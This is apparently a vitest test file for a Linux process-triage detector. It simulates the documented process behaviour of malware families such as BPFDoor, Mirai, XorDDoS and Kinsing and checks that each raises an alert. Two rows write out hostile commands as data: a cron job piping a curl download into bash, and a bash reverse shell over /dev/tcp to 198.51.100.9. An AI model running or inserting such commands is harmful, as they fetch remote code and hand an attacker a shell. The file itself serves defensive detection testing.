import { describe, expect, test } from 'vitest';
import type { FindingKind } from '../../../src/triage/index.js';
import { daemonise, doubleForked, drop, leaveJob, Story, told } from './story.js';

/** What is told, the process that matters, and kinds that must be among its findings. */
type Row = readonly [who: string, tell: (story: Story) => number, kinds: readonly FindingKind[]];

/** Families and tools of BASELINE.md 4.3, by what is documented of them; names are none of theirs. */
const ROWS: readonly Row[] = [
  ['BPFDoor: copies itself to shared memory, starts that with --init, is gone; the copy calls itself like a system daemon', (s) => {
    const first = s.exec(s.fork(s.login(0)), '/opt/w/one', ['./one']);
    const copy = s.exec(s.fork(first), '/dev/shm/tmpf', ['/usr/sbin/console-kit-daemon --no-daemon', '--init']);
    const last = s.setsid(s.fork(copy));
    s.exit(copy);
    s.exit(first);
    s.wait(40).rename(last, 'console-kit-dae');
    return s.connect(last, '10.0.0.66', 443);
  }, ['adopted', 'name-mismatch', 'orphan-network']],
  ['Mirai: one fork, setsid, a name at random, looks for others to take', (s) => {
    const bot = daemonise(s, s.login(0), '/var/run/dvr', ['./dvr', 'telnet']);
    s.rename(bot, 'a4j0vbk2q');
    for (let host = 1; host <= 20; host++) s.connect(bot, `198.51.100.${host}`, 23);
    return bot;
  }, ['adopted', 'daemonised', 'name-mismatch', 'orphan-network']],
  ['XorDDoS: detaches, and writes what starts it again', (s) => {
    const bot = doubleForked(s, s.login(0), '/usr/bin/ygljglkjgfg0', ['/usr/bin/ygljglkjgfg0', 'cat resolv.conf']);
    s.write(bot, '/etc/cron.hourly/gcc.sh');
    return s.wait(30).connect(bot, '198.51.100.9', 1520);
  }, ['adopted', 'double-fork', 'orphan-persistence', 'orphan-network']],
  ['KillFile, SprySOCKS: the name of a kernel thread as its first argument', (s) => {
    const first = s.exec(s.fork(s.login(0)), '/opt/w/one', ['[bluetooth]']);
    const last = s.setsid(s.fork(first));
    s.exit(first);
    return last;
  }, ['kernel-name']],
  ['Rekoobe, TinyShell, PRISM: detaches and takes the name of a program that is here', (s) => {
    const bot = daemonise(s, s.login(0), '/var/lib/misc/w', ['./w']);
    s.rename(bot, 'sshd');
    return s.wait(30).connect(bot, '198.51.100.9', 443);
  }, ['name-mismatch', 'orphan-network']],
  ['gs-netcat: its daemon under a kernel thread\'s name', (s) => {
    const last = doubleForked(s, s.login(), '/home/a/.config/htop/defunct', ['[kcached]', '-ilD']);
    return s.wait(30).connect(last, '198.51.100.9', 443);
  }, ['kernel-name', 'orphan-network']],
  ['a dropper of two forks', (s) => drop(s, s.login(), '/opt/w/one', '/opt/w/two'), ['adopted', 'double-fork', 'daemonised']],
  ['a dropper of a scheduled job', (s) => drop(s, s.cronJob('/opt/w/one -x'), '/opt/w/one', '/opt/w/two'), ['adopted', 'double-fork']],
  ['a dropper of a unit that calls itself nginx.service', (s) => drop(s, s.service(900, '/usr/sbin/nginx', ['nginx'], 'nginx'), '/usr/sbin/nginx-helper', '/usr/sbin/nginx-worker'), ['adopted']],
  ['a program in memory only', (s) => {
    const first = s.exec(s.fork(s.login()), '/opt/w/one');
    const last = s.setsid(s.fork(first));
    s.exec(last, '/memfd:x', ['[kworker/0:0]']);
    s.exit(first);
    return last;
  }, ['no-file', 'kernel-name']],
  ['Kinsing: a job of cron leaves a miner with nohup', (s) => {
    const shell = s.cronJob('curl -s http://198.51.100.9/a.sh | bash', 33);
    const miner = s.exec(s.exec(s.fork(shell), '/usr/bin/nohup', ['nohup', '/var/tmp/kdev']), '/var/tmp/kdev', ['/var/tmp/kdev']);
    s.exit(shell);
    return s.wait(30).connect(miner, '198.51.100.9', 3333);
  }, ['adopted', 'orphan-network']],
  ['a web shell that starts a program with &', (s) => {
    const shell = s.exec(s.fork(s.service(900, '/usr/sbin/php-fpm8.2', ['php-fpm: pool www'], 'php8.2-fpm')), '/usr/bin/dash', ['sh', '-c', 'id']);
    return s.wait(1).setsid(leaveJob(s, shell, '/srv/www/up/x'));
  }, ['service-shell']],
  ['an exploited java: its shell leaves a reverse shell', (s) => {
    const shell = s.exec(s.fork(s.service(900, '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', ['java', '-jar', 'app.war'], 'app')), '/usr/bin/bash', ['bash', '-c', 'setsid bash -i >& /dev/tcp/198.51.100.9/443 0>&1 &']);
    return s.wait(1).setsid(leaveJob(s, shell, '/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/443 0>&1']));
  }, ['service-shell', 'orphan-network']],
  ['a sibling by CLONE_PARENT that calls its maker runc, below a login', (s) => {
    const tool = s.exec(s.fork(s.login()), '/opt/w/runc', ['/opt/w/runc']);
    const sibling = s.exec(s.fork(tool, 5000, 0x8011), '/opt/w/two');
    s.exit(tool);
    return s.wait(30).connect(sibling, '198.51.100.9', 443);
  }, ['foreign-parent', 'orphan-network']],
  ['perl on a command line that forks twice and talks', (s) => {
    const last = doubleForked(s, s.login(), '/usr/bin/perl', ['perl', '-MIO::Socket', '-e', 'fork&&exit;IO::Socket::INET->new']);
    return s.wait(30).connect(last, '198.51.100.9', 443);
  }, ['adopted', 'double-fork', 'orphan-network']],
];

describe('what is documented of malware is an alert', () => {
  test.each(ROWS.map(([who, tell, kinds]) => ({ who, tell, kinds })))('$who', async ({ tell, kinds }) => {
    const story = new Story();
    const pid = tell(story);
    story.wait(60).cronJob('/usr/local/bin/tick');
    const answer = await told(story), row = answer.of(pid);
    const said = JSON.stringify(row && { score: row.score, why: row.why, reasons: row.findings.flatMap(({ kind, reasons }) => reasons.map(({ says, points }) => `${kind} ${points}: ${says}`)), baseline: row.baseline }, null, 1);
    expect(row?.alert, said).toBe(true);
    expect(answer.kinds(pid), said).toEqual(expect.arrayContaining([...kinds]));
  });
});
